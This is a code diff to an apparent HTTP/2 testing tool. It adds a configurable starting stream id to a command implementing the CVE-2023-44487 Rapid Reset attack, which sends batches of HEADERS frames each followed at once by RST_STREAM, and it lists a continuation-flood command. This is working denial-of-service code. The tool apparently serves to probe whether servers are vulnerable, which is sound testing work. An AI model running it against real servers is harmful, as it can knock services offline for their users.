@@ -662,19 +662,23 @@ def cmd_multiplex(args):
 def cmd_rapid_reset(args):
     """CVE-2023-44487: --streams N streams, each a HEADERS immediately followed by
     RST_STREAM(CANCEL), written in batches of --batch streams as fast as the socket
-    takes them. Stops early on GOAWAY or close; then sends a PING and reads until the
+    takes them, with stream ids from --first-stream-id on (default 1; a client may skip
+    ids). Stops early on GOAWAY or close; then sends a PING and reads until the
     server closes or a read times out. Reports streams_sent, the GOAWAY code name and
     last_stream_id, closed, responses_received (streams that got a response HEADERS),
     resets_received and ping_acked (the connection still answers).
     """
     if args.streams < 1 or args.batch < 1:
         raise UsageError("--streams and --batch must be >= 1")
+    first = args.first_stream_id
+    if first < 1 or first % 2 == 0 or first + 2 * (args.streams - 1) > 2**31 - 1:
+        raise UsageError("--first-stream-id must be odd, and the last id below 2^31")
     raw = RawClient(args)
     sent = 0
     if raw.handshake():
         while sent < args.streams and raw.goaway is None and not raw.net.closed:
             batch = bytearray()
-            ids = range(2 * sent + 1, 2 * min(sent + args.batch, args.streams) + 1, 2)
+            ids = range(first + 2 * sent, first + 2 * min(sent + args.batch, args.streams), 2)
             for stream_id in ids:
                 headers = hf.HeadersFrame(stream_id)
                 headers.flags.add("END_HEADERS")
@@ -1002,6 +1006,7 @@ def parser():
     s.add_argument("--path", required=True)
     s.add_argument("--streams", type=int, required=True)
     s.add_argument("--batch", type=int, default=100, help="streams per write")
+    s.add_argument("--first-stream-id", type=int, default=1, help="odd; later ids follow it")
 
     s = add("continuation-flood", cmd_continuation_flood)
     s.add_argument("--path", default="/")
